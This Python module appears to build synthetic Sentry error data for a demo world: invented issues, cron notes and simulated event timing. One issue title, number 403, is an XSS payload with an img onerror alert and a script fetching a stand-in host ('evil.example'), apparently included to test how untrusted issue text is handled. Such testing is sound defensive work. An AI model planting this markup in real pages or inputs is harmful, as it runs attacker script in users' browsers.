"""What the application reports to Sentry: errors behind 5xx answers, warnings, and notes of cron runs."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import numpy as np

from pdmlib.demo.scenarios import DEPLOYED
from pdmlib.demo.world.grid import DAY, Array, Ints, Story, Table, deployed, draw, during, ms, rates, table
from pdmlib.demo.world.operations import release_at


@dataclass(frozen=True)
class Issue:
    """One issue as the tracker describes it.

    Attributes:
        first_seen: of issues older than the world; else the first event tells.
        resolved_after: how long after its last event somebody resolved it; None: open.
        earlier: events before the world began.
    """

    number: int
    type: str
    value: str
    culprit: str
    level: str = "error"
    first_seen: datetime | None = None
    resolved_after: timedelta | None = None
    priority: str | None = "medium"
    assigned: str | None = None
    unhandled: bool = False
    earlier: int = 0

    @property
    def title(self) -> str:
        """The line that people see."""
        return f"{self.type}: {self.value}" if self.type else self.value


def _before(days: int) -> datetime:
    return datetime(2025, 1, 20, 13, 7, 11, tzinfo=UTC) - timedelta(days=days)


ISSUES: tuple[Issue, ...] = (
    Issue(
        311,
        "TypeError",
        "Cannot read properties of undefined (reading 'tier')",
        "app/api/loyalty/award/route",
        first_seen=_before(160),
        assigned="Dana Ortiz",
        unhandled=True,
        earlier=612,
    ),
    Issue(
        324,
        "PostgrestError",
        "JSON object requested, multiple (or no) rows returned",
        "app/api/customers/[id]/route",
        first_seen=_before(131),
        earlier=488,
    ),
    Issue(
        339,
        "AbortError",
        "The operation was aborted",
        "app/api/analytics/summary/route",
        first_seen=_before(97),
        priority="low",
        earlier=205,
    ),
    Issue(
        352,
        "Error",
        "Failed to parse webhook payload",
        "app/api/webhooks/stripe/route",
        first_seen=_before(74),
        earlier=121,
    ),
    Issue(
        360,
        "ZodError",
        "Invalid input at body.scheduled_for",
        "app/api/jobs/route",
        first_seen=_before(58),
        priority="low",
        earlier=143,
    ),
    Issue(377, "RangeError", "Invalid time value", "app/portal/bookings/page", first_seen=_before(30), earlier=77),
    Issue(
        381,
        "Error",
        "Hydration failed because the server rendered HTML didn't match",
        "app/(dashboard)/page",
        level="warning",
        first_seen=_before(25),
        priority="low",
        earlier=340,
    ),
    Issue(
        384,
        "",
        "Slow response from geocoding service",
        "lib/geocoding",
        level="warning",
        first_seen=_before(21),
        priority="low",
        earlier=90,
    ),
    Issue(
        102,
        "",
        "Cron job started",
        "lib/cron/executor",
        level="info",
        first_seen=_before(210),
        priority=None,
        earlier=81_000,
    ),
    Issue(
        103,
        "",
        "Cron job finished",
        "lib/cron/executor",
        level="info",
        first_seen=_before(210),
        priority=None,
        earlier=81_000,
    ),
    Issue(
        390,
        "TypeError",
        "Cannot read properties of null (reading 'zone')",
        "app/api/jobs/route",
        first_seen=_before(9),
        resolved_after=timedelta(hours=20),
        assigned="Dana Ortiz",
        earlier=31,
    ),
    Issue(
        401,
        "FetchError",
        "upstream connect error or disconnect/reset before headers",
        "middleware",
        level="fatal",
        resolved_after=timedelta(hours=3),
        priority="high",
        assigned="Lee Park",
        unhandled=True,
    ),
    Issue(
        402,
        "PostgrestError",
        "canceling statement due to statement timeout",
        "app/api/jobs/route",
        priority="high",
        unhandled=True,
    ),
    Issue(
        403,
        "",
        "<img src=x onerror=alert(document.domain)><script>fetch('//evil.example')</script>",
        "app/portal/bookings/page",
        priority="high",
        unhandled=True,
    ),
    Issue(
        404,
        "ChunkLoadError",
        "Loading chunk 4821 failed",
        "app/(dashboard)/layout",
        priority="medium",
        unhandled=True,
    ),
)
_RECURRING = range(6)
_SHARES = np.array([0.3, 0.22, 0.16, 0.12, 0.12, 0.08])
_HYDRATION, _GEOCODING, _STARTED, _FINISHED, _MENDED, _OUTAGE, _TIMEOUT, _HOSTILE, _CHUNK = range(6, 15)


def events(story: Story, requests: Table, cron: Table) -> Table:
    """Every event sent to Sentry; columns at, issue (position in ISSUES), user (-1: none), release."""
    parts = [
        _of_requests(story, requests),
        _spread(story, _HYDRATION, 14, 4),
        _spread(story, _GEOCODING, 6, 5),
        _spread(story, _MENDED, 5, 2, until=ms(DEPLOYED) - 11 * DAY),
        _plain(cron["at"], _STARTED),
        _plain(cron["ended"][cron["ended"] > 0], _FINISHED),
    ]
    if story.plan.hostile_issue:
        parts.append(_spread(story, _HOSTILE, 7, 3, since=deployed() + 7 * 60_000))
    if story.plan.stale_client:
        stale = _spread(story, _CHUNK, 40, 12, since=deployed() + 2 * 60_000)
        parts.append(Table({**stale.columns, "release": stale["release"] - 1}))
    names = ("at", "issue", "user", "release")
    return table(**{name: np.concatenate([p[name] for p in parts]) for name in names})


def _of_requests(story: Story, requests: Table) -> Table:
    failed = requests.where(requests["status"] >= 500)
    rng = story.rng("errors")
    at = failed["at"] + 40
    issue = rng.choice(_RECURRING, len(at), p=_SHARES)
    burst = during(at, story.plan.error_bursts) & (rng.random(len(at)) > 0.02)
    issue = np.where(burst, _TIMEOUT, issue)
    issue = np.where(during(at, story.plan.outages), _OUTAGE, issue)
    return Table({"at": at, "issue": issue, "user": failed["user"].astype(np.int64), "release": failed["release"]})


def _spread(story: Story, issue: int, weekday: float, weekend: float, since: int = 0, until: int = 2**60) -> Table:
    rng = story.rng(f"issue {issue}")
    at = draw(rng, rates(weekday, weekend))
    at = at[(at >= since) & (at < until)]
    return Table({**_plain(at, issue).columns, "user": rng.integers(0, 900, len(at))})


def _plain(at: Ints | Array, issue: int) -> Table:
    return Table(
        {
            "at": at,
            "issue": np.full(len(at), issue, dtype=np.int64),
            "user": np.full(len(at), -1, dtype=np.int64),
            "release": release_at(at.astype(np.int64)),
        }
    )
